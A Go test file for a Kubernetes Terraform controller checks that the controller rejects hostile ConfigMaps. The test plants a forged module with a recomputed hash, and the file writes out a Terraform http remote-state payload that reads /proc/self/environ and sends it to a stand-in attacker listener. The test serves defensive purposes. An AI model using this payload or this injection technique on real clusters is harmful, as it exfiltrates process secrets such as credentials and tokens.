package cluster_test

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"net"
	"net/http"
	"net/http/httptest"
	"path"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
	"time"

	corev1 "k8s.io/api/core/v1"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/numaform/numaform/internal/testenv"
	"github.com/numaform/numaform/modules"
)

// directoryOf is the annotation with the directory that is stored in a fleet's ConfigMap.
const directoryOf = "numaform.dev/directory"

// partLabel is the label with the role of a fleet's ConfigMap.
const partLabel = "numaform.dev/part"

// TestHostileConfigMaps checks that, if a fleet's ConfigMaps contain an attacker's module
// with a matching hash and a node file that calls it, the controller names the file, starts
// no engine, and continues once the fleet is restored. The baseline's controller sends its
// environment to the attacker.
func TestHostileConfigMaps(t *testing.T) {
	t.Parallel()
	t.Run("baseline", func(t *testing.T) {
		baseline := testenv.Baseline(t)
		h := newHostile(t, worldConfig{chart: filepath.Join(baseline, "charts", "numaform"), program: filepath.Join(baseline, "numaform")})
		h.attack()
		h.eventually(2*time.Minute, func(context.Context) string {
			if h.connections.Load() == 0 {
				return "the listener was not reached"
			}
			return ""
		})
	})
	t.Run("current", func(t *testing.T) {
		h := newHostile(t, worldConfig{})
		h.idle()
		runs := h.starts()
		restore, file := h.attack()
		h.eventually(2*time.Minute, func(context.Context) string {
			if !h.controller.log.contains(file) {
				return "the controller does not name " + file
			}
			return ""
		})
		h.remains(20*time.Second, func(context.Context) string {
			if h.connections.Load() > 0 {
				return "the listener was reached"
			}
			if now := h.starts(); now != runs {
				return fmt.Sprintf("an engine was started: %d runs, %d before", now, runs)
			}
			return ""
		})
		restore()
		h.running("more", 1, 3*time.Minute)
	})
}

// hostile is a world with a node and an attacker's listener.
type hostile struct {
	*world
	listener    *httptest.Server
	connections atomic.Int32
}

func newHostile(t *testing.T, config worldConfig) *hostile {
	h := &hostile{world: newWorld(t, config)}
	h.listener = httptest.NewUnstartedServer(http.NotFoundHandler())
	h.listener.Config.ConnState = func(_ net.Conn, state http.ConnState) {
		if state == http.StateNew {
			h.connections.Add(1)
		}
	}
	h.listener.Start()
	t.Cleanup(h.listener.Close)
	h.start()
	h.classAndPool("workers", "", "")
	h.pods("web", 1, "500m", "1Gi")
	h.running("web", 1, 3*time.Minute)
	return h
}

// starts returns the number of runs of the engine.
func (h *hostile) starts() int {
	total := 0
	for _, command := range []string{"init", "plan", "apply", "import", "show", "state"} {
		for _, runs := range h.engineRuns(command) {
			total += runs
		}
	}
	return total
}

// idle waits until each started change has ended.
func (h *hostile) idle() {
	h.t.Helper()
	h.eventually(time.Minute, func(ctx context.Context) string {
		counts := map[string]int{}
		var list corev1.ConfigMapList
		if err := h.api.List(ctx, &list, client.InNamespace(namespace), client.HasLabels{partLabel}); err != nil {
			return err.Error()
		}
		for i := range list.Items {
			counts[list.Items[i].Labels[partLabel]]++
		}
		if counts["change"] == 0 || counts["change"] != counts["outcome"] {
			return fmt.Sprintf("%d changes started, but %d ended", counts["change"], counts["outcome"])
		}
		return ""
	})
}

// attack changes the fleet's ConfigMaps and creates a pod that requires a change of the
// fleet. It returns a function that restores the ConfigMaps, and the name of the node file.
func (h *hostile) attack() (restore func(), file string) {
	h.t.Helper()
	ctx := context.Background()
	var list corev1.ConfigMapList
	if err := h.api.List(ctx, &list, client.InNamespace(namespace), client.HasLabels{"numaform.dev/fleet"}); err != nil {
		h.t.Fatal(err)
	}
	content, hash := map[string][]byte{}, ""
	var node *corev1.ConfigMap
	for i := range list.Items {
		m := &list.Items[i]
		parts := strings.Split(m.Annotations[directoryOf], "/")
		for key, text := range m.Data {
			switch {
			case len(parts) == 3 && parts[0] == "modules":
				content[path.Join(parts[1], key)], hash = []byte(text), parts[2]
			case strings.HasPrefix(key, "node-"):
				node, file = m, key
			}
		}
	}
	if node == nil || modules.HashOf(content) != hash {
		h.t.Fatalf("the fleet has the node file %q, and modules %s", file, hash)
	}
	content["proxmox-node/zz.tf"] = []byte(`data "terraform_remote_state" "x" {
  backend = "http"
  config = {
    address = "` + h.listener.URL + `/?environ=${urlencode(filebase64("/proc/self/environ"))}"
  }
}
`)
	own := modules.HashOf(content)
	for _, module := range modules.Names() {
		m := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{
			Namespace: namespace, Name: partName(path.Join("modules", module, own)),
			Labels:      map[string]string{"numaform.dev/fleet": "fleet", partLabel: "files"},
			Annotations: map[string]string{directoryOf: path.Join("modules", module, own)},
		}, Data: map[string]string{}}
		for name, text := range content {
			if dir, base := path.Split(name); dir == module+"/" {
				m.Data[base] = string(text)
			}
		}
		if err := h.api.Create(ctx, m); err != nil {
			h.t.Fatal(err)
		}
	}
	before := node.Data[file]
	node.Data[file] = strings.ReplaceAll(before, hash, own)
	if err := h.api.Update(ctx, node); err != nil {
		h.t.Fatal(err)
	}
	h.pods("more", 1, "3", "1Gi")
	return func() {
		h.t.Helper()
		current := &corev1.ConfigMap{}
		if err := h.api.Get(ctx, client.ObjectKeyFromObject(node), current); err != nil {
			h.t.Fatal(err)
		}
		current.Data[file] = before
		if err := h.api.Update(ctx, current); err != nil {
			h.t.Fatal(err)
		}
		for _, module := range modules.Names() {
			m := &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: partName(path.Join("modules", module, own))}}
			if err := h.api.Delete(ctx, m); err != nil {
				h.t.Fatal(err)
			}
		}
	}, file
}

// partName returns the name of a directory's ConfigMap, which an attacker can compute.
func partName(dir string) string {
	hash := sha256.Sum256([]byte(dir))
	slug := strings.ReplaceAll(dir, "/", "-")
	return "fleet-" + strings.Trim(slug[:min(len(slug), 40)], "-") + "-" + hex.EncodeToString(hash[:4])
}
